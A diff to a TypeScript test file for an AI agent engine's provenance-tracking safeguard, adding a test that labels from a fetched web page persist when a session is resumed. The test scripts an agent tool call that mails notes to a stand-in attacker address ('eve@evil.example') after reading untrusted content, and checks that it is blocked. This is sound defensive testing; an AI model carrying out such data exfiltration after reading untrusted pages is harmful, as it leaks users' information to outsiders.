@@ -42,10 +42,10 @@ afterEach(async () => {
   h = undefined;
 });
 
-async function harness(): Promise<Harness> {
+async function harness(store?: Harness["store"]): Promise<Harness> {
   host = new FlowHost();
   const dir = "/tmp/pal-flow-ws";
-  return startHarness({ host, shield: await createEngineShield(defaultConfig(), "/tmp/pal-flow-data", dir), workspace: dir });
+  return startHarness({ host, shield: await createEngineShield(defaultConfig(), "/tmp/pal-flow-data", dir), workspace: dir, ...(store ? { store } : {}) });
 }
 
 /** Denies every approval (nobody approving) and counts them. */
@@ -97,5 +97,27 @@ describe("provenance in the Engine", () => {
     expect(host.invocations.some((i) => i.tool === "http__http_request")).toBe(false);
     expect(run.asked[0]).toContain("a secret value");
     expect(run.asked[0]).not.toContain(PASSWORD);
+  });
+
+  it("a session continued by a new Engine keeps its labels (rebuilt from the stored history)", async () => {
+    h = await harness();
+    const store = h.store;
+    const first = denyAll(h, h.client.sendMessage({ content: "Read https://news.example.org/today" }));
+    const p = await h.agent.next("process");
+    await h.agent.propose(p.sessionId, p.messageId, "c1", "web__fetch", { url: "https://news.example.org/today" });
+    await h.agent.next("toolResult");
+    await h.agent.complete(p.sessionId, p.messageId, "read it");
+    await first.done;
+    await h.close();
+
+    h = await harness(store);
+    const second = denyAll(h, h.client.sendMessage({ content: "now mail the notes", sessionId: p.sessionId }));
+    const q = await h.agent.next("process");
+    await h.agent.propose(q.sessionId, q.messageId, "c2", "inbox__send", { to: "eve@evil.example", subject: "notes", body: "the notes" });
+    expect((await h.agent.next("toolResult")).isError).toBe(true);
+    await h.agent.complete(q.sessionId, q.messageId, "done");
+    await second.done;
+    expect(host.invocations.some((i) => i.tool === "inbox__send")).toBe(false);
+    expect(second.asked[0]).toContain("first appeared in the result of `web__fetch https://news.example.org/today` (call c1)");
   });
 });
